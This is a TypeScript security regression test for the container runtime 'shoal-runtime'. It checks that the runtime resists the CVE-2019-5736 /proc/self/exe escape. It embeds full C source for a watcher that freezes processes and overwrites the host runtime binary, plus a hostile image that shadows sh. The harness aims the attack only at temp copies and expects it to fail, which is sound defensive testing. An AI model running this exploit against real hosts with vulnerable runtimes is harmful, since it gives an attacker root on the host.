// CVE-2019-5736 (runc's /proc/self/exe escape) against shoal-runtime. A hostile image shadows
// `sh` with a file whose interpreter is `#!/proc/self/exe`: whatever host binary execs it inside
// the container then runs *itself* there, as the container's user, and a watcher in the
// container opens /proc/PID/exe, waits until the binary is no longer busy (ETXTBSY) and
// overwrites it, so the next runtime call anywhere on the host runs the attacker's script as
// root. The runtime must only ever enter a container from a sealed memfd copy.
//
// The attacked binaries are copies in the test's temp dir (never the build's), so the test is
// safe to run against a vulnerable build: it then fails with the copy overwritten.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  closeSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runtimePath, setRuntimePath } from '../../worker/engine/native.js';
import { type Env, demux as engineDemux, makeEnv } from '../engine/helpers.js';
import { ensureFixtures, type Result, ROOTFS, RUNTIME, run, Sandbox, until } from './helpers.js';

// The container half of the attack. Every other process that shows up in the container is
// frozen (SIGSTOP) so that it cannot exit while we look; when its executable is not a file of
// the container, we try to open it for writing at once, keep a read-only handle, and after it
// has gone re-open that handle for writing (O_TRUNC, then in place) to plant the payload.
const WATCHER_C = `
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { MAXPID = 65536 };
static FILE* out;
static char payload[512];
static unsigned char done[MAXPID];
static int last_err[MAXPID];

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static const char* res(long rc) { return rc < 0 ? strerror(errno) : "OPENED"; }

static void overwrite(int pid, int fd, const char* how) {
  ssize_t k = pwrite(fd, payload, strlen(payload), 0);
  fprintf(out, "pid %d: %s: write: %s\\n", pid, how, k < 0 ? strerror(errno) : "OVERWRITTEN");
  close(fd);
}

/* Whether fd is the file link names: between the readlink and an open the pid may have exec'd or died and
   been reused (a stop signal is not instant), and a handle on something else is no attempt on the runtime. */
static int same_target(int fd, const char* link) {
  char p[64], got[512];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(p, got, sizeof got - 1);
  if (n < 0) return 0;
  got[n] = 0;
  return strcmp(got, link) == 0;
}

static void attack(int pid) {
  char exe[64], link[512];
  snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
  kill(pid, SIGSTOP);
  ssize_t n = readlink(exe, link, sizeof link - 1);
  if (n < 0) {
    int e = errno;
    kill(pid, SIGCONT);
    if (e == ENOENT) {
      done[pid] = 1;
      return;
    }
    /* not allowed now; the same pid may exec something else later, so look again */
    if (last_err[pid] != e) fprintf(out, "pid %d: readlink exe: %s\\n", pid, strerror(e));
    last_err[pid] = e;
    return;
  }
  link[n] = 0;
  done[pid] = 1;
  struct stat in_ctr, target;
  if (stat(link, &in_ctr) == 0 && stat(exe, &target) == 0 && in_ctr.st_dev == target.st_dev &&
      in_ctr.st_ino == target.st_ino) {
    kill(pid, SIGCONT); /* a program of the container itself */
    return;
  }
  fprintf(out, "pid %d: target exe %s\\n", pid, link);
  int w = open(exe, O_WRONLY);
  int we = errno;
  int r = open(exe, O_RDONLY);
  int re = errno;
  if ((w >= 0 && !same_target(w, link)) || (r >= 0 && !same_target(r, link))) {
    fprintf(out, "pid %d: its exe changed under the watcher: looked at again\\n", pid);
    if (w >= 0) close(w);
    if (r >= 0) close(r);
    done[pid] = 0;
    kill(pid, SIGCONT);
    return;
  }
  errno = we;
  fprintf(out, "pid %d: open exe for writing while it runs: %s\\n", pid, res(w));
  if (w >= 0) overwrite(pid, w, "while running");
  errno = re;
  fprintf(out, "pid %d: open exe read-only: %s\\n", pid, res(r));
  kill(pid, SIGCONT);
  /* waiting for the binary to be idle is a child's job: the scan goes on for more targets */
  if (r >= 0 && fork() == 0) {
    char fdp[64];
    snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", r);
    double end = now() + 10;
    do {
      w = open(fdp, O_WRONLY | O_TRUNC);
      if (w >= 0 || errno != ETXTBSY) break;
      usleep(2000);
    } while (now() < end);
    fprintf(out, "pid %d: re-open for writing (O_TRUNC) once idle: %s\\n", pid, res(w));
    if (w >= 0) overwrite(pid, w, "truncated");
    w = open(fdp, O_RDWR);
    fprintf(out, "pid %d: re-open for writing (in place): %s\\n", pid, res(w));
    if (w >= 0) overwrite(pid, w, "in place");
    fprintf(out, "pid %d: attempt finished\\n", pid);
    _exit(0);
  }
  if (r >= 0) close(r);
  else fprintf(out, "pid %d: attempt finished\\n", pid);
}

int main(int argc, char** argv) {
  if (argc < 4) return 2;
  out = fopen(argv[1], "a");
  if (!out) return 2;
  setvbuf(out, NULL, _IOLBF, 0);
  signal(SIGCHLD, SIG_IGN); /* our waiting children reap themselves */
  snprintf(payload, sizeof payload, "#!/bin/sh\\necho pwned > %s\\n", argv[2]);
  double end = now() + atof(argv[3]);
  int self = getpid();
  fprintf(out, "watching\\n");
  while (now() < end) {
    DIR* d = opendir("/proc");
    if (!d) return 3;
    struct dirent* e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid > 1 && pid < MAXPID && pid != self && !done[pid]) attack(pid);
    }
    closedir(d);
    sched_yield();
  }
  return 0;
}
`;

const sha256 = (f: string) => createHash('sha256').update(readFileSync(f)).digest('hex');

let sb: Sandbox;
let env: Env | undefined;
let hasCc = true;
beforeAll(() => {
  ensureFixtures();
  try {
    execFileSync('cc', ['--version']);
  } catch {
    hasCc = false;
  }
});
afterEach(async () => {
  await env?.cleanup();
  env = undefined;
  await sb?.cleanup();
});

/** The host's binaries, copied so that a successful attack only hurts the copy. */
function hostBinaries() {
  const dir = join(sb.dir, 'host-bin');
  mkdirSync(dir);
  const runtime = join(dir, 'shoal-runtime');
  const monitor = join(dir, 'shoal-monitor');
  copyFileSync(RUNTIME, runtime);
  copyFileSync(join(dirname(RUNTIME), 'shoal-monitor'), monitor);
  chmodSync(runtime, 0o755);
  chmodSync(monitor, 0o755);
  const hashes = () => ({ runtime: sha256(runtime), monitor: sha256(monitor) });
  const rt = (args: string[]): Promise<Result> => run(runtime, ['--root', sb.root, ...args]);
  return { dir, runtime, hashes, rt };
}

/** The hostile image's layer: a shadowing `sh`, and the watcher when asked for. */
function hostileLayer(watcher: boolean): string {
  const layer = join(sb.dir, 'layer');
  mkdirSync(join(layer, 'usr/local/bin'), { recursive: true });
  mkdirSync(join(layer, 'tmp'), { recursive: true });
  writeFileSync(join(layer, 'usr/local/bin/sh'), '#!/proc/self/exe\n', { mode: 0o755 });
  if (watcher) {
    writeFileSync(join(sb.dir, 'watcher.c'), WATCHER_C);
    execFileSync('cc', ['-static', '-O1', '-o', join(layer, 'watcher'), join(sb.dir, 'watcher.c')]);
  }
  return layer;
}

/**
 * A bundle of the hostile layer over the busybox fixture (overlayfs). `caps` adds capabilities:
 * CAP_SYS_PTRACE (a common `--cap-add`) lets the watcher past non-dumpable, so that only the
 * sealed copies stand in its way.
 */
function hostileBundle(args: string[], watcher: boolean, caps: string[] = []) {
  const layer = hostileLayer(watcher);
  const upper = join(sb.dir, 'upper');
  const work = join(sb.dir, 'work');
  const merged = join(sb.dir, 'merged');
  for (const d of [upper, work, merged]) mkdirSync(d, { recursive: true });
  const b = sb.bundle(args, (s) => {
    s.root.path = merged;
    s.annotations = {
      'org.shoal.rootfs.lowerdirs': `${layer}:${ROOTFS}`,
      'org.shoal.rootfs.upperdir': upper,
      'org.shoal.rootfs.workdir': work,
    };
    const c = s.process.capabilities;
    if (c) for (const set of [c.bounding, c.effective, c.permitted]) set?.push(...caps);
  });
  return { ...b, upper };
}

/** Execs `sh` until the watcher caught a runtime process, then waits for its attempts to end. */
async function attackUntilCaught(report: () => string, execSh: () => Promise<unknown>): Promise<void> {
  const count = (re: RegExp) => report().match(re)?.length ?? 0;
  // Each exec is one more chance: the watcher has to see the process before it exits.
  for (let i = 0; i < 10 && count(/target exe/g) === 0; i++) await execSh();
  await until(() => count(/attempt finished/g) === count(/target exe/g), 30_000);
}

/** What the watcher must have reported: it attacked a runtime process and found only a sealed copy. */
function expectAttackFailed(text: string, hostDir: string): void {
  expect(text).toMatch(/target exe \/memfd:shoal-runtime/);
  expect(text).not.toContain(hostDir);
  expect(text).not.toContain('OVERWRITTEN');
  expect(text).not.toMatch(/while it runs: OPENED/);
}

/** Inodes of the sealed runtime copies that process `pid` holds open. */
function heldRuntimeCopies(pid: number | 'self'): number[] {
  const dir = `/proc/${pid}/fd`;
  return readdirSync(dir)
    .filter((fd) => {
      try {
        return readlinkSync(join(dir, fd)).startsWith('/memfd:shoal-runtime');
      } catch {
        return false; // closed meanwhile
      }
    })
    .map((fd) => statSync(join(dir, fd)).ino);
}

const errnoOf = (f: () => void): string => {
  try {
    f();
    return 'ok';
  } catch (e) {
    return (e as NodeJS.ErrnoException).code ?? String(e);
  }
};

describe('CVE-2019-5736: host binaries are never reachable from a container', () => {
  it('an exec of a shadowed sh (#!/proc/self/exe) cannot overwrite the host runtime', async (ctx) => {
    if (!hasCc) return ctx.skip();
    sb = new Sandbox();
    const host = hostBinaries();
    const before = host.hashes();
    const marker = join(sb.dir, 'pwned');
    const { id, bundle, upper } = hostileBundle(['/watcher', '/tmp/report', marker, '120'], true, [
      'CAP_SYS_PTRACE',
    ]);
    const report = join(upper, 'tmp/report');
    const readReport = () => (existsSync(report) ? readFileSync(report, 'utf8') : '');
    expect((await host.rt(['create', '--bundle', bundle, id])).stderr).toBe('');
    expect((await host.rt(['start', id])).stderr).toBe('');
    await until(() => readReport().includes('watching'));

    // The admin's `exec CTR sh`.
    const execs: Result[] = [];
    await attackUntilCaught(readReport, async () => execs.push(await host.rt(['exec', id, 'sh'])));
    // The next runtime call on the host: with an overwritten binary it runs the payload.
    await host.rt(['state', id]);
    await host.rt(['exec', id, 'true']);

    const text = readReport();
    console.log(`watcher report:\n${text}exec results: ${JSON.stringify(execs.map((r) => r.code))}`);
    // Nothing ran on the host, the host's binaries are unchanged.
    expect({ pwned: existsSync(marker), hashes: host.hashes() }).toEqual({ pwned: false, hashes: before });
    expectAttackFailed(text, host.dir);
  });

  it("the container's init runs from a sealed copy, not from the host's file", async () => {
    sb = new Sandbox();
    const host = hostBinaries();
    const before = host.hashes();
    // The image's entrypoint is the shadowing sh: at start, init execs the runtime itself.
    const { id, bundle } = hostileBundle(['sh'], false);
    expect((await host.rt(['create', '--bundle', bundle, id])).stderr).toBe('');
    const { pid } = sb.state(id) as { pid: number };
    // Before start the init is the runtime, blocked before exec: what a watcher could grab.
    const exe = readlinkSync(`/proc/${pid}/exe`);
    expect(exe.startsWith(host.dir)).toBe(false);
    expect(exe).toMatch(/^\/memfd:/);
    const held = openSync(`/proc/${pid}/exe`, 'r');
    try {
      expect((await host.rt(['start', id])).stderr).toBe('');
      await until(() => sb.exitInfo(id));
      // Nothing executes that copy any more; even the host's root cannot change it.
      expect(errnoOf(() => closeSync(openSync(`/proc/self/fd/${held}`, 'w')))).toBe('EPERM');
      const rw = errnoOf(() => {
        const fd = openSync(`/proc/self/fd/${held}`, 'r+');
        try {
          writeSync(fd, '#!/bin/sh\necho pwned\n', 0);
        } finally {
          closeSync(fd);
        }
      });
      expect(rw).toBe('EPERM');
    } finally {
      closeSync(held);
    }
    expect(host.hashes()).toEqual(before);
  });
  it("through the engine: exec'd from the addon's shared sealed copy, the attack fails the same", async (ctx) => {
    if (!hasCc) return ctx.skip();
    sb = new Sandbox();
    const host = hostBinaries();
    const before = host.hashes();
    const marker = join(sb.dir, 'pwned');
    const out = join(sb.dir, 'out');
    mkdirSync(out);
    const report = join(out, 'report');
    const readReport = () => (existsSync(report) ? readFileSync(report, 'utf8') : '');
    const previous = runtimePath();
    setRuntimePath(host.runtime);
    try {
      env = makeEnv();
      const m = await env.open();
      const { id } = await m.create({
        rootfs: { layers: [hostileLayer(true), ROOTFS] },
        cmd: ['/watcher', '/out/report', marker, '120'],
        binds: [`${out}:/out`],
        capAdd: ['SYS_PTRACE'],
      });
      await m.start(id);
      await until(() => readReport().includes('watching'));
      const exec = async (cmd: string[]) =>
        engineDemux((await m.execStart(m.execCreate(id, { cmd, attachStdout: true, attachStderr: true })))!);
      await attackUntilCaught(readReport, () => exec(['sh']));
      // The monitor starts exec-helper from the very copy the addon spawned create from: one
      // copy per shoald, none per container.
      const state = JSON.parse(readFileSync(join(env.execRoot, 'runtime', id, 'state.json'), 'utf8'));
      const ours = heldRuntimeCopies('self');
      expect(ours).toHaveLength(1);
      expect(heldRuntimeCopies(state.monitorPid)).toEqual(ours);
      // The next runtime calls on the host (exec, ps through the runtime's file).
      await exec(['true']);
      await m.top(id);

      const text = readReport();
      console.log(`watcher report (engine):\n${text}`);
      expect({ pwned: existsSync(marker), hashes: host.hashes() }).toEqual({ pwned: false, hashes: before });
      expectAttackFailed(text, host.dir);
    } finally {
      setRuntimePath(previous); // a clean-up with the build's runtime, whatever became of the copy
    }
  });
});
